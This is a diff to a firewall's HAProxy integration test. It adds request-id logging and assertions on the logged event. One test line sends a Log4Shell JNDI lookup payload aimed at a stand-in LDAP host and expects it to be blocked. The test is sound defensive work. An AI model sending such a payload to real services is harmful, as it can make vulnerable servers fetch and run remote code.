@@ -74,7 +74,7 @@ describe('HAProxy', () => {
   before(async () => {
     upstream = await startUpstream();
     spop = await freePort();
-    wafd = await Wafd.start({ 'ingest.budget_ms': 20000, 'ingest.spop.listen': `127.0.0.1:${spop}` });
+    wafd = await Wafd.start({ 'log.events': 'denied', 'ingest.budget_ms': 20000, 'ingest.spop.listen': `127.0.0.1:${spop}` });
     haproxy = await startHaproxy(upstream, spop);
   });
   after(async () => {
@@ -84,9 +84,10 @@ describe('HAProxy', () => {
   });
 
   test('a query, a header and a body are blocked with JSON, and the event says who asked', async () => {
-    const blocked = await request(haproxy.url + ATTACK, { headers: { 'X-Forwarded-For': '198.51.100.9' } });
+    const blocked = await request(haproxy.url + ATTACK, { headers: { 'X-Request-Id': 'of-the-client', 'X-Forwarded-For': '198.51.100.9' } });
     assert.deepEqual([blocked.status, blocked.headers['content-type']], [403, 'application/json']);
     assert.equal(blocked.json().success, false);
+    assert.match(await wafd.requestId(blocked.json().event_id), /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/);
     const { record } = await wafd.event(blocked.json().event_id);
     assert.deepEqual([record.action, record.src_ip, record.socket_ip, record.scheme], ['deny', '127.0.0.1', '127.0.0.1', 'http']);
     assert.equal((await request(haproxy.url, { headers: { 'X-A': '${jndi:ldap://198.51.100.1/a}' } })).status, 403);
